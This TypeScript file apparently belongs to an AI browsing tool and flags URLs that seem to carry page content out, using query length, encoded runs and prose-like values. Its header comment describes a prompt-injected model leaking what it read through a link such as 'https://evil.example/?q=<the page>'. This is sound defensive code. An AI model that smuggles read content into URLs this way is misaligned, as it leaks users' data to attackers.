// Spots URLs that look like they carry page content out: a hijacked model's way to leak what it read
// is to propose "open https://evil.example/?q=<the page>". These are flagged on the card, not refused,
// because legitimate search links also have queries; the user decides with the warning in view.

/** Above this many characters of query plus fragment, the URL is flagged as very long. */
export const longQueryLength = 300;
/** A single parameter value or path segment longer than this is flagged. */
export const longValueLength = 120;
/** Unbroken base64 or hex runs at least this long look like encoded data rather than words. */
const encodedRunLength = 48;
/** Prose has many words; search terms rarely do. */
const proseWordCount = 12;

export function urlConcerns(url: URL): string[] {
  const concerns: string[] = [];
  const carried = url.search.length + url.hash.length;
  if (carried > longQueryLength) concerns.push(`The address carries ${carried} characters of query and fragment.`);
  const pieces = [...parameterValues(url), ...pathSegments(url)];
  const dataLike = pieces.find(looksLikeData);
  if (dataLike !== undefined) concerns.push(`Part of the address looks like page data: “${excerpt(dataLike, 60)}”.`);
  return concerns;
}

function parameterValues(url: URL): string[] {
  const values = [...url.searchParams.values()];
  // The fragment never reaches the server, but the opened page's scripts read it just as easily.
  if (url.hash.length > 1) values.push(safeDecode(url.hash.slice(1)));
  return values;
}

function pathSegments(url: URL): string[] {
  return url.pathname.split('/').map(safeDecode);
}

function looksLikeData(value: string): boolean {
  if (value.length > longValueLength) return true;
  if (/[\r\n]/.test(value)) return true;
  if (value.trim().split(/\s+/).length >= proseWordCount) return true;
  return new RegExp(`[A-Za-z0-9+/_=-]{${encodedRunLength},}`).test(value);
}

export function safeDecode(value: string): string {
  try {
    return decodeURIComponent(value);
  } catch (error) {
    // A malformed escape is not data we can read; judge the raw text instead.
    if (error instanceof URIError) return value;
    throw error;
  }
}

export function excerpt(text: string, length: number): string {
  const flat = text.replace(/\s+/g, ' ').trim();
  return flat.length <= length ? flat : `${flat.slice(0, length - 1)}…`;
}
